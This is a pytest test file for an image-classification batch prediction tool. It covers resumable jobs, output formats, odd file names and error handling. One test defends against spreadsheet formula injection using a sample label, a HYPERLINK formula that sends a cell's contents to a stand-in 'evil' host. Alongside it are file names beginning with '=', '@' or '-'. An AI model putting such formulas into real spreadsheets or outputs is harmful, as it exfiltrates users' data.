"""`kd-predict`: the endpoint's answers for every image that is given in any form, once
each, whatever kills it.
"""

import csv
import io
import json
import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
from pathlib import Path

import pyarrow.parquet
import pytest
from pieces import wait_until
from PIL import Image

from kd.core.errors import DataError, RunError
from kd.deploy.predict.image_list import find
from kd.deploy.predict.predict import PredictOptions, _identity, predict
from kd.deploy.predict.results import FORMATS, ResultLayout
from kd.deploy.serve.decoding import prepare
from kd.deploy.serve.limits import Limits
from kd.deploy.serve.model import describe, load
from kd.deploy.serve.responses import predictions

ROOT = Path(__file__).parents[4]
ALONE = """
import sys
from kd.cli.serving import predict as main
code = main()
assert not {"torch", "timm"} & set(sys.modules)
sys.exit(code)
"""


@pytest.fixture(scope="module")
def pictures(photos, tmp_path_factory) -> Path:
    """Six good images, in folders and with odd names, and four that cannot be used."""
    folder = tmp_path_factory.mktemp("pictures")
    (folder / "b" / ".hidden").mkdir(parents=True)
    for number, path in enumerate(sorted(photos.rglob("*.jpg"))[:6]):
        name = ["0.jpg", "b/1.JPG", 'b/t,w"o.jpeg', "b/3\n.jpg", "z/ä.jpg", "b/5.png"][
            number
        ]
        (folder / name).parent.mkdir(exist_ok=True)
        Image.open(path).save(folder / name)
    good = (folder / "0.jpg").read_bytes()
    (folder / "cut.jpg").write_bytes(good[: len(good) // 2])
    (folder / "empty.png").touch()
    Image.new("RGB", (8, 8)).save(folder / "old.bmp")
    (folder / "gone.webp").symlink_to("nowhere")
    shutil.copy(folder / "0.jpg", folder / "b" / ".hidden")
    (folder / "notes.txt").write_text("not an image")
    return folder


@pytest.fixture(scope="module")
def expected(exported, pictures) -> dict[str, dict]:
    """What the endpoint's own code answers for the good images."""
    model = load(describe(exported), 1, 1)
    good = [
        p
        for p in sorted(pictures.rglob("*"))
        if p.is_file() and ".hidden" not in str(p)
    ]
    answers = {}
    for path in good:
        if path.name not in ("cut.jpg", "empty.png", "old.bmp", "notes.txt"):
            pixels = prepare(path.read_bytes(), model.size, model.crop, Limits()).pixels
            answers[path.relative_to(pictures).as_posix()] = predictions(
                model.engine(pixels[None]), model.labels, 2
            )[0]
    assert len(answers) == 6
    return answers


def test_drafts_of_a_killed_process_go(exported, pictures, command, tmp_path):
    for name in (
        ".all.csv.0123456789ab.tmp",
        ".all.csv.ba9876543210.tmp",
        ".other.csv.0123456789ab.tmp",
    ):
        (tmp_path / name).write_text("image,label")
    assert (
        command("predict", exported, pictures, "--to", tmp_path / "all.csv").code == 0
    )
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        ".other.csv.0123456789ab.tmp",
        "all.csv",
    ]


def test_a_folder_becomes_csv(exported, pictures, expected, command, tmp_path):
    target = tmp_path / "out" / "all.csv"
    answer = command("predict", exported, pictures, "--to", target, "--top", "2")
    assert answer.code == 0, answer
    rows = {
        row["image"]: row
        for row in csv.DictReader(io.StringIO(target.read_text(), newline=""))
    }
    assert rows.keys() - expected.keys() == {
        "cut.jpg",
        "empty.png",
        "old.bmp",
        "gone.webp",
    }
    for name, prediction in expected.items():
        best, second = prediction["top"]
        row = rows.pop(name)
        assert (row["label"], float(row["score"])) == (best["label"], best["score"])
        assert (row["label_2"], float(row["score_2"])) == (
            second["label"],
            second["score"],
        )
        assert not row["error"]
    reasons = {
        "cut.jpg": "damaged",
        "empty.png": "empty",
        "old.bmp": "JPEG, PNG, WEBP",
        "gone.webp": "No such file",
    }
    for name, word in reasons.items():
        assert word in rows[name]["error"]
        assert f"{name}: " in answer.err
        assert not rows[name]["label"]
    assert "4 images are unreadable" in answer.err
    assert [path.name for path in target.parent.iterdir()] == ["all.csv"]


def test_photographs_of_phones_do_not_vanish(exported, pictures, command, tmp_path):
    """They were not listed, so that a folder of 11 gave 5 rows and no word."""
    (tmp_path / "in").mkdir()
    shutil.copy(pictures / "0.jpg", tmp_path / "in")
    (tmp_path / "in" / "1.HEIC").write_bytes(b"\0\0\0\x18ftypheic")
    answer = command("predict", exported, tmp_path / "in", "--to", tmp_path / "all.csv")
    assert answer.code == 0, answer
    rows = list(csv.DictReader((tmp_path / "all.csv").read_text().splitlines()))
    assert [bool(row["error"]) for row in rows] == [False, True]
    assert "1.HEIC: " in answer.err


def jsonl(path: Path) -> dict[str, dict]:
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    by_image = {row.pop("image"): row for row in rows}
    assert len(by_image) == len(rows)
    return by_image


def run(exported: Path, images: object, target: Path, **options) -> Path:
    predict(
        PredictOptions(
            export=exported, images=str(images), to=target, top=2, cores=2, **options
        )
    )
    return target


def test_every_form_of_images_and_results_gives_the_same(
    exported, pictures, expected, tmp_path, aws, monkeypatch
):
    names = [name for name in expected if "\n" not in name]
    answers = {name: expected[name] for name in names}
    listed = tmp_path / "listed.txt"
    listed.write_text(
        "\n".join(
            [str(pictures / name) for name in names[:2]]
            + ["missing.jpg", "s3://bucket/missing.jpg", ""]
        )
    )
    rows = jsonl(run(exported, listed, tmp_path / "listed.jsonl"))
    assert "no such file" in rows.pop("s3://bucket/missing.jpg")["error"]
    assert rows.pop("missing.jpg") == {"error": "No such file or directory"}
    assert rows == {
        str(pictures / name): answer for name, answer in list(answers.items())[:2]
    }

    shard = tmp_path / "few-000.tar"
    with tarfile.open(shard, "w") as tar:
        for name in names:
            tar.add(pictures / name, name)
            tar.add(pictures / "notes.txt", f"{name.rpartition('.')[0]}.cls")
    rows = jsonl(run(exported, tmp_path / "few-{000..000}.tar", tmp_path / "tar.jsonl"))
    assert rows == {
        f"few-000.tar/{name.rpartition('.')[0]}.{name.rpartition('.')[2].lower()}": (
            answers[name]
        )
        for name in names
    }

    s3 = aws("s3")
    for name in names:
        s3.upload_file(str(pictures / name), "bucket", f"photos/{name}")
    s3.put_object(Bucket="bucket", Key="photos/notes.txt", Body=b"no image")
    assert jsonl(run(exported, "s3://bucket/photos", tmp_path / "s3.jsonl")) == {
        f"s3://bucket/photos/{name}": answer for name, answer in answers.items()
    }
    s3.upload_file(str(shard), "bucket", "few-000.tar")
    run(exported, "s3://bucket/few-*.tar", tmp_path / "s3_tar.jsonl")
    assert (tmp_path / "s3_tar.jsonl").read_bytes() == (
        tmp_path / "tar.jsonl"
    ).read_bytes()
    assert not list(tmp_path.glob("*.shards"))

    monkeypatch.setattr("kd.deploy.predict.results.ROWS", 2)
    table = pyarrow.parquet.read_table(
        run(exported, shard, tmp_path / "tar.parquet")
    ).to_pylist()
    assert {
        row["image"]: {"label": row["label"], "score": row["score"], "top": row["top"]}
        for row in table
    } == rows


def test_a_killed_job_resumes_without_a_duplicate_or_a_gap(
    exported, pictures, expected, tmp_path
):
    """Stopped by SIGTERM, killed by SIGKILL, with a line cut off, then finished: the
    bytes of a run that was not.
    """
    listed = tmp_path / "listed.txt"
    listed.write_text(
        "\n".join(
            [str(pictures / "0.jpg"), str(pictures / "b" / "5.png"), "missing.jpg"]
            * 1500
        )
    )
    uninterrupted = run(exported, listed, tmp_path / "whole.csv").read_bytes()
    target = tmp_path / "killed.csv"
    journal = tmp_path / "killed.csv.part"
    argv = [
        sys.executable,
        "-c",
        ALONE,
        str(exported),
        str(listed),
        "--to",
        str(target),
        "--top",
        "2",
    ]
    written = 0
    for number, code in ((signal.SIGTERM, 75), (signal.SIGKILL, -9)):
        process = subprocess.Popen(
            argv,
            cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            stderr=subprocess.PIPE,
        )
        wait_until(
            lambda size=written + 20_000: (
                journal.is_file() and journal.stat().st_size > size
            ),
            process,
        )
        process.send_signal(number)
        process.communicate(timeout=30)
        assert process.returncode == code
        written = journal.stat().st_size
        assert not target.exists()
    rows = journal.read_bytes().splitlines()
    assert 100 < len(rows) < 4500
    with journal.open("ab") as file:
        file.write(b'{"image": "cut o')
    resumed = subprocess.run(
        argv,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
    )
    assert resumed.returncode == 0, resumed.stderr
    assert target.read_bytes() == uninterrupted
    assert "1500 images are unreadable" in resumed.stderr
    (last,) = [
        line for line in resumed.stdout.splitlines() if " by an earlier start, " in line
    ]
    assert int(last.split(" images, ")[1].split()[0]) in range(len(rows) - 2, len(rows))


@pytest.fixture
def twenty(pictures, tmp_path) -> Path:
    """Twenty pictures, two in turn."""
    folder = tmp_path / "twenty"
    folder.mkdir()
    for number in range(20):
        shutil.copy(
            pictures / ["0.jpg", "z/ä.jpg"][number % 2], folder / f"{number:02d}.jpg"
        )
    return folder


def with_journal(exported: Path, images: object, target: Path) -> Path:
    """Classify everything; return a journal as it was in the moment before it was
    removed.
    """
    journal = target.with_name(target.name + ".part")
    saved = target.with_name("kept")
    journal.touch()
    os.link(journal, saved)
    run(exported, images, target)
    assert not journal.exists()
    saved.rename(journal)
    return journal


def starts(
    exported: Path, images: object, target: Path, **options
) -> subprocess.Popen[str]:
    argv = [
        sys.executable,
        "-c",
        ALONE,
        str(exported),
        str(images),
        "--to",
        str(target),
        "--top",
        "2",
        "--threads",
        "1",
    ]
    environ = {**os.environ, "PYTHONPATH": str(ROOT)}
    pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
    return subprocess.Popen(argv, cwd=ROOT, env=environ, text=True, **pipes, **options)


@pytest.mark.slow
def test_a_folder_that_goes_away_ends_it_and_it_resumes(exported, twenty, tmp_path):
    """The images that were left got rows "No such file", with exit code 0, and the
    journal was removed.
    """
    for number in range(20, 3000):
        os.link(twenty / f"{number % 20:02d}.jpg", twenty / f"{number}.jpg")
    target = tmp_path / "rows.csv"
    journal = tmp_path / "rows.csv.part"
    away = tmp_path / "away"
    process = starts(exported, twenty, target)
    wait_until(lambda: journal.is_file() and journal.stat().st_size > 20_000, process)
    twenty.rename(away)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 2, err
    assert len(err.splitlines()) == 1
    assert ".jpg': it cannot be read" in err
    assert "the same command again: it resumes" in err
    assert not target.exists()
    rows = len(journal.read_bytes().splitlines()) - 1
    assert 0 < rows < 3000
    away.rename(twenty)
    process = starts(exported, twenty, target)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 0, err
    assert f"3000 images, {rows} of them by an earlier start" in out
    assert (
        target.read_bytes()
        == run(exported, twenty, tmp_path / "whole.csv").read_bytes()
    )


def test_pipes_and_sockets_get_a_row_with_an_error(
    exported, pictures, expected, tmp_path
):
    """It waited for a writer for ever, and did not end by the first SIGTERM."""
    folder = tmp_path / "folder"
    folder.mkdir()
    shutil.copy(pictures / "0.jpg", folder)
    os.mkfifo(folder / "pipe.jpg")
    (folder / "zero.png").symlink_to("/dev/zero")
    (folder / "folder.png").mkdir()
    with socket.socket(socket.AF_UNIX) as opened:
        opened.bind(str(folder / "socket.webp"))
    rows = jsonl(run(exported, folder, tmp_path / "rows.jsonl"))
    assert rows.pop("0.jpg") == expected["0.jpg"]
    assert rows.keys() == {"pipe.jpg", "zero.png", "socket.webp"}
    assert all("not a regular file" in row["error"] for row in rows.values())


def test_sigterm_ends_it_during_a_hanging_read(exported, tmp_path):
    """A request that nobody answers held the first signal back."""
    with socket.create_server(("127.0.0.1", 0)) as silent:
        listed = tmp_path / "listed.txt"
        listed.write_text(f"http://127.0.0.1:{silent.getsockname()[1]}/a.jpg\n")
        process = starts(exported, listed, tmp_path / "rows.csv")
        silent.settimeout(60)
        connection, _ = silent.accept()
        with connection:
            process.send_signal(signal.SIGTERM)
            _, err = process.communicate(timeout=20)
    assert (process.returncode, err) == (
        75,
        "stopped by SIGTERM; the same command resumes\n",
    )


ODD = ("=cmd.jpg", "-1.jpg", "@x.jpg", "a\rb.jpg", "c\nd.jpg", "e\r\nf.jpg", "ä.jpg")


def test_odd_names_are_one_row_each_in_every_format(
    exported, pictures, expected, tmp_path
):
    r"""A name with \r was two rows, one that is not UTF-8 made the file unreadable, and
    spreadsheets ran =cmd.
    """
    folder = tmp_path / "folder"
    folder.mkdir()
    for name in (*map(os.fsencode, ODD), b"\xff\xe9.jpg"):
        shutil.copy(os.fsencode(pictures / "0.jpg"), os.fsencode(folder) + b"/" + name)
    names = {*ODD, "\\xff\\xe9.jpg"}
    text = run(exported, folder, tmp_path / "rows.csv").read_bytes().decode()
    rows = [row["image"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert sorted(rows) == sorted(
        f"./{name}" if name[0] in "=-@" else name for name in names
    )
    assert jsonl(run(exported, folder, tmp_path / "rows.jsonl")).keys() == names
    table = pyarrow.parquet.read_table(run(exported, folder, tmp_path / "rows.parquet"))
    assert set(table["image"].to_pylist()) == names
    listed = tmp_path / "listed.bin"
    listed.write_bytes(
        b"".join(os.fsencode(folder) + b"/" + os.fsencode(name) + b"\0" for name in ODD)
    )
    assert jsonl(run(exported, listed, tmp_path / "listed.jsonl")) == {
        f"{folder}/{n}": expected["0.jpg"] for n in ODD
    }


def test_a_label_of_a_strangers_export_is_no_formula_of_a_spreadsheet(tmp_path):
    labels = ('=HYPERLINK("http://evil/?"&A1,"fig")', "@SUM(1+1)", "-2")
    top = [{"label": label, "score": 0.5} for label in labels]
    single_row = {"image": "a.jpg", "top": top}
    several_row = {"image": "a.jpg", "labels": top[:2]}
    FORMATS[".csv"](tmp_path / "one", iter([single_row]), ResultLayout(3))
    FORMATS[".csv"](tmp_path / "several", iter([several_row]), ResultLayout(0))
    files = (
        io.StringIO((tmp_path / name).read_bytes().decode(), newline="")
        for name in ("one", "several")
    )
    (single,), (several,) = map(csv.DictReader, files)
    assert [single[key] for key in ("label", "label_2", "label_3")] == [
        f"'{labels[0]}",
        "'@SUM(1+1)",
        "-2",
    ]
    assert several["labels"] == f"'{labels[0]}|@SUM(1+1)"


@pytest.mark.parametrize(
    "form",
    ["file", "file without an ending", "bytes", "list", "list of find -print0", "pipe"],
)
def test_one_image_and_the_standard_input_are_predicted(
    exported, pictures, expected, tmp_path, form
):
    target = tmp_path / "rows.jsonl"
    image = pictures / "0.jpg"
    if form.startswith("file"):
        image = Path(
            shutil.copy(image, tmp_path / ("a.jpg" if form == "file" else "a"))
        )
        assert jsonl(run(exported, image, target)) == {str(image): expected["0.jpg"]}
        return
    stdin = {
        "bytes": image.read_bytes(),
        "list": b'0.jpg\nb/t,w"o.jpeg\r\n',
        "list of find -print0": b'0.jpg\0b/t,w"o.jpeg\0',
        "pipe": f"{image}\n".encode(),
    }[form]
    names = {"bytes": {"stdin": "0.jpg"}, "pipe": {str(image): "0.jpg"}}
    sources = names.get(form, {name: name for name in ("0.jpg", 'b/t,w"o.jpeg')})
    argv = ["/dev/stdin" if form == "pipe" else "-", "--to", str(target), "--top", "2"]
    environ = {**os.environ, "PYTHONPATH": str(ROOT)}
    process = subprocess.run(
        [sys.executable, "-c", ALONE, str(exported), *argv],
        cwd=pictures,
        env=environ,
        input=stdin,
        capture_output=True,
    )
    assert process.returncode == 0, process.stderr
    assert jsonl(target) == {name: expected[image] for name, image in sources.items()}


@pytest.mark.parametrize(
    "change",
    [
        "a row deleted",
        "a row twice",
        "a row of another image",
        "too many rows",
        "nothing",
    ],
)
def test_rows_that_are_not_of_the_image_at_their_place_are_made_again(
    exported, twenty, command, tmp_path, change
):
    """A deleted row gave one image twice, and another one not at all."""
    target = tmp_path / "rows.csv"
    journal = with_journal(exported, twenty, target)
    complete = target.read_bytes()
    target.unlink()
    head, *rows = journal.read_bytes().splitlines(keepends=True)
    reused = {
        "a row deleted": 3,
        "a row twice": 4,
        "a row of another image": 3,
        "too many rows": 20,
        "nothing": 15,
    }[change]
    rows = {
        "a row deleted": rows[:3] + rows[4:15],
        "a row twice": rows[:4] + rows[3:15],
        "a row of another image": rows[:3] + rows[9:10] + rows[4:15],
        "too many rows": rows + rows[-1:],
        "nothing": rows[:15],
    }[change]
    journal.write_bytes(b"".join([head, *rows]))
    answer = command("predict", exported, twenty, "--to", target, "--top", 2)
    assert answer.code == 0, answer
    assert f"20 images, {reused} of them" in answer.out
    assert ("made again" in answer.err) == (reused < 15)
    assert target.read_bytes() == complete


def test_pictures_that_changed_between_two_starts_are_classified_again(
    exported, twenty, pictures, command, tmp_path
):
    """Their old rows stayed."""
    target = tmp_path / "rows.csv"
    journal = with_journal(exported, twenty, target)
    old = target.read_bytes()
    target.unlink()
    journal.write_bytes(b"".join(journal.read_bytes().splitlines(keepends=True)[:16]))
    shutil.copy(pictures / "z" / "ä.jpg", twenty / "04.jpg")
    answer = command("predict", exported, twenty, "--to", target, "--top", 2)
    assert answer.code == 0, answer
    assert "'04.jpg' has changed since its row was written" in answer.err
    assert "20 images, 4 of them" in answer.out
    assert (
        target.read_bytes()
        == run(exported, twenty, tmp_path / "new.csv").read_bytes()
        != old
    )


@pytest.mark.parametrize("ending", ["csv", "jsonl", "parquet"])
def test_a_job_killed_between_its_result_and_the_removal_of_its_journal_resumes(
    exported, twenty, command, refused, tmp_path, ending
):
    """The result was whole, and a scheduler's next try ended with code 2."""
    target = tmp_path / f"rows.{ending}"
    journal = with_journal(exported, twenty, target)
    complete = target.read_bytes()
    lines = journal.read_bytes().splitlines(keepends=True)
    answer = command("predict", exported, twenty, "--to", target, "--top", 2)
    assert answer.code == 0, answer
    assert target.read_bytes() == complete
    assert not journal.exists()
    for result, rows in ((b"of somebody else", lines), (complete, lines[:9])):
        target.write_bytes(result)
        journal.write_bytes(b"".join(rows))
        assert "exists" in refused(
            "predict", exported, twenty, "--to", target, "--top", 2
        )
        assert (target.read_bytes(), journal.read_bytes()) == (result, b"".join(rows))


@pytest.mark.parametrize("bytes_left", [10, 1000])
def test_a_full_disk_is_one_line_and_it_resumes(
    exported, twenty, command, tmp_path, bytes_left
):
    """It was a traceback. The system's own limit on the size of a file stands in for a
    full disk.
    """

    def fill() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (bytes_left, resource.RLIM_INFINITY))

    target = tmp_path / "rows.csv"
    process = starts(exported, twenty, target, preexec_fn=fill)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 2, err
    assert len(err.splitlines()) == 1, err
    assert err.startswith("--to: cannot write '")
    assert not target.exists()
    assert command("predict", exported, twenty, "--to", target, "--top", 2).code == 0
    assert (
        target.read_bytes()
        == run(exported, twenty, tmp_path / "whole.csv").read_bytes()
    )


def test_links_to_folders_are_followed(pictures, tmp_path):
    """Their images were left out, and nothing was said; training follows them."""
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "linked").symlink_to(pictures)
    linked = find(str(tmp_path / "photos"), tmp_path / "copies")
    plain = find(str(pictures), tmp_path / "copies")
    assert list(linked.names) == [f"linked/{name}" for name in plain.names]
    (tmp_path / "photos" / "again").symlink_to(tmp_path / "photos")
    with pytest.raises(DataError, match="is a link to a folder above it"):
        find(str(tmp_path / "photos"), tmp_path / "copies")


def test_what_cannot_be_predicted_is_refused(exported, pictures, refused, tmp_path):
    (tmp_path / "there.csv").touch()
    (tmp_path / "nothing").mkdir()
    for images, to, words in (
        (pictures, "there.csv", "exists"),
        (pictures, "all.txt", ".csv, .jsonl, .parquet"),
        (tmp_path / "nothing", "new.csv", "no images"),
        (tmp_path / "nowhere", "new.csv", "does not exist"),
        ("nocloud://bucket/photos", "new.csv", "nocloud"),
        (tmp_path / "missing-*.tar", "new.csv", "no shard"),
    ):
        assert words in refused("predict", exported, images, "--to", tmp_path / to)
    (tmp_path / "new.csv.part").write_text('{"model": "another"}\n')
    assert "version" in refused(
        "predict", exported, pictures, "--to", tmp_path / "new.csv"
    )
    assert "is not an export" in refused(
        "predict", pictures, pictures, "--to", tmp_path / "other.csv"
    )


def test_a_job_does_not_go_on_with_other_thresholds(exported, pictures, tmp_path):
    """The same weights, exported anew with thresholds that other images chose."""
    folder = Path(shutil.copytree(exported, tmp_path / "export"))

    def decide(threshold: float) -> None:
        manifest = json.loads((folder / "manifest.json").read_text())
        manifest.pop("checksum", None)
        manifest["output"]["thresholds"] = {
            label: {"threshold": threshold} for label in describe(exported).labels
        }
        (folder / "manifest.json").write_text(json.dumps(manifest))

    decide(0.5)
    settings = PredictOptions(
        export=folder, images=str(pictures), to=tmp_path / "labels.csv"
    )
    identity = _identity(
        settings, describe(folder), None, find(str(pictures), tmp_path), 1
    )
    (tmp_path / "labels.csv.part").write_text(json.dumps(identity) + "\n")
    decide(0.6)
    with pytest.raises(RunError, match="other values of: thresholds"):
        predict(settings)


def test_a_journal_that_is_a_link_is_not_followed(exported, pictures, tmp_path):
    """Issue 49: before, the rows went into the file that the link names."""
    precious = tmp_path / "thesis.tex"
    precious.write_text("precious")
    (tmp_path / "labels.csv.part").symlink_to(precious)
    with pytest.raises(RunError, match=r"labels\.csv\.part' is a link"):
        predict(
            PredictOptions(
                export=exported, images=str(pictures), to=tmp_path / "labels.csv"
            )
        )
    assert precious.read_text() == "precious"
